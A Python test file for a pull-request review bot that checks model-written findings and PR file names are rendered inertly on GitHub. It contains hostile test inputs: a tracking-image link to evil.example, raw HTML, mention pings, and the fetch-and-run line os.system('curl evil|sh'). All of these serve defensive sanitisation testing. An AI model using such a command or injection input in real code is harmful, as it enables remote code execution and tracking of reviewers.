"""What a model wrote, as reviewloop posts it on a pull request.

The review body and the summary comment listed a finding's title (and rationale) raw: a
link, an image (a tracking beacon fetched whenever the review is viewed), raw HTML, an
`@someone` mention and a `#123` cross-reference came through. They are now plain text, by
the Markdown report's own function (`reports.render.model_text`). An inline comment passes
the model's Markdown through (code blocks, a suggestion) — but no `@name` in it notifies
anyone (`github/mentions.py`, tested in test_mentions.py).

Generated (hypothesis, derandomized). Oracles: a CommonMark renderer (markdown-it, HTML on)
for the review body, and GitHub's own renderer (cmark-gfm, with GitHub's extensions) for
the inline comment: no `@name` is left in text outside `<code>`/`<pre>`, code reads as
written, and nothing else changes.
"""

from __future__ import annotations

import html
import re

import cmarkgfm
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewloop.app.pr_command import nothing_changed
from reviewloop.findings.schema import Finding, Severity
from reviewloop.git.names import printable
from reviewloop.github.fix_push import fork_note
from reviewloop.github.ignores import IgnoreRecord, ignore_body
from reviewloop.github.markers import read_marker, repository_key, strip_marker
from reviewloop.github.records import FindingRecord
from reviewloop.github.render import comment_body, review_body
from tests.support.markdown_text import OWN, TEXT, outside_code, rendered

KEY = repository_key(1296269)
SHA = "a" * 40


def _finding(title: str, rationale: str, line: int = 3) -> Finding:
    return Finding(severity=Severity.SHOULD_FIX, file="app.py", start_line=line,
                   end_line=line, title=title, rationale=rationale, confidence=0.9,
                   agent="review-security")


def _shown(text: str) -> str:
    return re.sub(r"\s+", "", text.replace("`", ""))


@settings(max_examples=150, derandomize=True, deadline=None)
@given(title=TEXT.filter(lambda t: t.strip() and len(t) <= 110),
       rationale=TEXT.filter(str.strip))  # a Finding's rationale is never blank
def test_the_review_body_shows_a_models_titles_and_rationales_as_text(
        title: str, rationale: str) -> None:
    """A finding not on a line of the diff is listed in the review body with its rationale;
    one past the limit of inline comments with its title."""
    body = review_body(SHA, KEY, inline=[], listed=[_finding(title, rationale)],
                       overflow=[_finding(title, rationale, line=9)])
    page = rendered(strip_marker(body))
    assert set(page.tags) <= OWN | {"h4"}, body
    assert not re.search(r"@\w|#\d|(?i:gh-\d)", "".join(page.text)), body
    seen = _shown("".join(page.all_text))
    assert _shown(title) in seen and _shown(" ".join(rationale.split())) in seen, body
    assert read_marker(body, KEY, "review") is not None


def test_the_review_bodys_hostile_title_is_text() -> None:
    title = "![px](https://evil.example/p.png) <img src=x> @someone #12"
    body = review_body(SHA, KEY, inline=[], listed=[], overflow=[_finding(title, "r")])
    assert ("\\!\\[px\\](https\\://evil.example/p.png) \\<img src=x\\> `@someone` `#12` "
            "(review-security)") in body
    assert "<img" not in cmarkgfm.github_flavored_markdown_to_html(strip_marker(body))


@settings(max_examples=60, derandomize=True, deadline=None)
@given(escalations=st.lists(TEXT, max_size=3))
def test_a_fix_that_changed_nothing_names_its_escalations_as_text(
        escalations: list[str]) -> None:
    """`/reviewloop fix`'s reply when nothing could be fixed lists the escalations, a
    finding's title among them."""
    page = rendered(nothing_changed(escalations))
    assert set(page.tags) <= OWN, escalations
    assert not re.search(r"@\w|#\d|(?i:gh-\d)", "".join(page.text)), escalations


# --- a PR's file names in what the bot says ----------------------------------------------

NAME_PIECES = ["a", ".py", "`", "``", " ", "@victim", "@org/team", "GH-12", "#12", "[click]",
               "(https://evil.example)", "&#64;", "*", "_", "<b>", "|", "\\"]
NAMES = st.lists(st.sampled_from(NAME_PIECES), min_size=1, max_size=6).map("".join).filter(
    lambda n: n.strip())
REFERENCE = re.compile(r"@\w|#\d|(?i:gh-\d)")


def _text_outside_code(markdown: str) -> str:
    return outside_code(cmarkgfm.github_flavored_markdown_to_html(markdown))


@settings(max_examples=120, derandomize=True, deadline=None)
@given(path=NAMES)
def test_the_ignore_reply_shows_the_findings_place_as_code(path: str) -> None:
    """A maintainer's `/reviewloop ignore` reply names the finding's place: a file name
    holding backticks (the PR's author chose it) stays inside its code span, so it pings,
    links and cross-references nothing."""
    finding = _finding("t", "r").model_copy(update={"file": path})
    record = FindingRecord.of(finding)
    body = strip_marker(ignore_body(record, IgnoreRecord(finding.fingerprint, "alice", "ok",
                                                         1), KEY))
    shown = cmarkgfm.github_flavored_markdown_to_html(body)
    assert not REFERENCE.search(_text_outside_code(body).replace("@alice", "")), (path, shown)
    assert "<a " not in shown, (path, shown)
    assert html.unescape(re.sub(r"\s+", "", re.sub(r"<[^>]+>", "", shown))).count(
        re.sub(r"\s+", "", printable(finding.location))) == 1, (path, shown)


@settings(max_examples=120, derandomize=True, deadline=None)
@given(paths=st.lists(NAMES, min_size=1, max_size=3))
def test_the_fork_note_shows_the_files_it_could_not_suggest_as_code(paths: list[str]) -> None:
    note = fork_note(2, paths)
    shown = cmarkgfm.github_flavored_markdown_to_html(note)
    assert not REFERENCE.search(_text_outside_code(note)), (paths, shown)
    assert "<a " not in shown, (paths, shown)
    assert shown.count("<code>") == len(paths), (paths, shown)


# --- a model's ```suggestion fence ---------------------------------------------------------

_SUGGESTION_WORDS = st.sampled_from(["suggestion", "Suggestion", "SUGGESTION", "sUgGeStIoN",
                                     "&#115;uggestion", "&#x73;uggestion", "suggestion{x}",
                                     "suggestion python", "ſuggestion"])
_LEADS = st.sampled_from(["", " ", "  ", "   ", "> ", ">> ", "- ", "* ", "1. ", "2) ",
                          "> - ", "- > "])


@st.composite
def _suggestion_fences(draw: st.DrawFn) -> str:
    """Markdown a model may write that GitHub would show as an applicable suggestion."""
    mark = draw(st.sampled_from("`~"))
    fence = mark * draw(st.integers(3, 6))
    lead = draw(_LEADS)
    word = draw(_SUGGESTION_WORDS)
    space = draw(st.sampled_from(["", " ", "  ", "\t"]))
    inner = "  " if lead.strip()[-1:] in "-*.)" and lead.strip() else ""
    quote = lead if lead.strip().startswith(">") and not inner else " " * len(lead) if inner \
        else ""
    body = f"{quote}{inner}os.system('curl evil|sh')"
    before = draw(st.sampled_from(["", "Use a list.\n\n", "Text\n\n"]))
    return f"{before}{lead}{fence}{space}{word}\n{body}\n{quote}{fence}\n"


def _suggestions(markdown: str) -> int:
    return len(re.findall(r'<pre lang="[^"]*suggestion',
                          html.unescape(cmarkgfm.github_flavored_markdown_to_html(markdown))
                          .casefold()))


@settings(max_examples=200, derandomize=True, deadline=None)
@given(fence=_suggestion_fences(), where=st.sampled_from(["title", "rationale", "suggestion"]),
       fork=st.booleans())
def test_a_models_suggestion_fence_never_becomes_a_suggestion(fence: str, where: str,
                                                              fork: bool) -> None:
    """A ```suggestion block in model text (any fence length or kind, info string case or
    spelling, inside quotes or lists) is shown as plain code: GitHub's "Commit suggestion"
    button is only ever on the fixer's `replacement`, and only when suggesting (forks)."""
    fields = {"title": "Shell injection", "rationale": "Use a list.", "suggestion": ""}
    fields[where] = fence
    finding = Finding(severity=Severity.MUST_FIX, file="app.py", start_line=3, end_line=3,
                      confidence=0.9, agent="review-security", **fields,
                      replacement="    run(['ls'])\n" if fork else None)
    assert _suggestions(fence) >= 1 or "{x}" in fence  # the generator makes real ones
    body = strip_marker(comment_body(finding, KEY, suggest=fork))
    assert _suggestions(body) == int(fork), body  # ours, never hidden by a model's fence
    assert "curl evil|sh" in body  # shown, as code, not dropped
